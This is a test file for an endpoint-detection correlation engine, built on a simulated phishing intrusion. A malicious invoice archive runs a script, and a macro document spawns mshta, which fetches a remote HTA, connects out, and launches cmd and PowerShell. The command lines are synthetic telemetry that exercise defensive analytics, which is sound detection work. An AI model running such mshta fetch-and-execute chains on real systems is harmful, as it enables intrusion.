import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  CMD,
  callsOut,
  catalogue,
  digest,
  EDGE,
  homeOf,
  MSHTA,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  storyOf,
  WORD,
  WSCRIPT,
} from '../analytics/testStory';
import type { EndpointEvent } from '../events/endpointEvent';
import { correlateHost } from './correlate';
import { kindsNeeded } from './kindsNeeded';

/** One host on which all three analytics fire, some stages several times over. */
function busyHost(): readonly EndpointEvent[] {
  const { s } = storyOf({ source: 'both', quiet: true });
  const outlook = s.starts(OUTLOOK);
  const svg = `${mailCacheOf(s)}\\Factura.svg`;
  s.writes(outlook, svg);
  s.marks(outlook, svg);
  const edge = s.starts(EDGE, { commandLine: `"${EDGE}" --single-argument ${svg}` });
  s.after('5s');
  const zip = `${homeOf(s)}\\Downloads\\Factura.zip`;
  s.writes(edge, zip);
  s.marks(edge, zip, { hostUrl: 'about:internet' });
  const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_Factura.zip\\Factura.js`;
  s.writes(s.explorer, script);
  const host = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` });
  callsOut(s, host);
  const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\offer.docm"` });
  const mshta = s.starts(MSHTA, { parent: word, commandLine: `${MSHTA} https://files.example/a.hta` });
  s.connects(mshta, '203.0.113.9', 443, { sensorClock: '-8h' });
  s.starts(CMD, { parent: mshta });
  s.starts(POWERSHELL, { parent: mshta });
  s.ends(mshta);
  return s.events();
}

const events = busyHost();
const correlate = (some: readonly EndpointEvent[]) =>
  correlateHost({ host: 'ws01.corp.example', events: some, catalogue, digest });
const whole = correlate(events);

describe('correlation', () => {
  it('finds all three analytics on one host, best first', () => {
    expect(new Set(whole.findings.map((finding) => finding.analytic))).toEqual(
      new Set(['AN1314', 'AN1397', 'AN1407']),
    );
    const scores = whole.findings.map((finding) => finding.score);
    expect(scores).toEqual([...scores].sort((a, b) => b - a));
  });

  it('gives the same findings, stages, scores and coverage for any order of the events', () => {
    fc.assert(
      fc.property(fc.shuffledSubarray([...events], { minLength: events.length }), (shuffled) => {
        const again = correlate(shuffled);
        expect(again.findings).toEqual(whole.findings);
        expect(again.coverage).toEqual(whole.coverage);
        expect(again.processes).toEqual(whole.processes);
      }),
      { numRuns: 40 },
    );
  });

  it('gives the same for imports that overlap, in any order, once each event is there once', () => {
    fc.assert(
      fc.property(
        fc.array(fc.subarray([...events]), { minLength: 1, maxLength: 4 }),
        fc.boolean(),
        (imports, last) => {
          const parts = last ? [...imports, events] : [events, ...imports];
          const union = new Map(parts.flat().map((event) => [event.id, event]));
          expect(correlate([...union.values()]).findings).toEqual(whole.findings);
        },
      ),
      { numRuns: 40 },
    );
  });

  it('keeps the id of a finding when later imports add to it', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: events.length }), (count) => {
        const early = correlate(events.slice(0, count)).findings;
        const full = new Map(whole.findings.map((finding) => [finding.id, finding]));
        for (const finding of early.filter((one) => one.status === 'complete'))
          expect(full.get(finding.id)?.analytic, finding.headline).toBe(finding.analytic);
      }),
      { numRuns: 40 },
    );
  });

  it('changes none of its input', () => {
    const frozen = events.map((event) => Object.freeze({ ...event }));
    const before = JSON.stringify(frozen);
    correlate(Object.freeze(frozen) as readonly EndpointEvent[]);
    expect(JSON.stringify(frozen)).toBe(before);
  });

  it('never fails, scores from 0 to 100, and quotes only events it was given, on any part of a recording', () => {
    const ids = new Set(events.map((event) => event.id));
    fc.assert(
      fc.property(fc.subarray([...events]), (some) => {
        for (const finding of correlate(some).findings) {
          expect(finding.score).toBeGreaterThanOrEqual(0);
          expect(finding.score).toBeLessThanOrEqual(100);
          for (const event of finding.stages.flatMap((stage) => stage.events))
            expect(ids.has(event.eventId)).toBe(true);
          const required = finding.stages.filter((stage) => stage.required && stage.state !== 'matched');
          if (required.length > 0) expect(finding.status).toBe('partial');
          if (finding.status === 'partial') expect(finding.score).toBeLessThanOrEqual(60);
        }
      }),
      { numRuns: 60 },
    );
  });

  it('has nothing to say of nothing', () => {
    const empty = correlate([]);
    expect(empty.findings).toEqual([]);
    expect(empty.coverage.every((stage) => stage.state === 'blind')).toBe(true);
  });

  it('asks for every kind of event that a definition, a relation or the lineage reads', () => {
    expect(kindsNeeded(catalogue)).toEqual(
      expect.arrayContaining([
        'process_start',
        'process_end',
        'file_stream',
        'file_access',
        'image_load',
        'log_clear',
        'alert',
      ]),
    );
    const needed = new Set(kindsNeeded(catalogue));
    expect(correlate(events.filter((event) => needed.has(event.kind))).findings).toEqual(whole.findings);
  });

  it('tells finding from finding on hosts that share everything but the name', () => {
    const other = correlateHost({
      host: 'ws02.corp.example',
      events: events.map((event) => ({ ...event, host: 'ws02.corp.example' })),
      catalogue,
      digest,
    });
    const ids = new Set([...whole.findings, ...other.findings].map((finding) => finding.id));
    expect(ids.size).toBe(whole.findings.length * 2);
  });
});
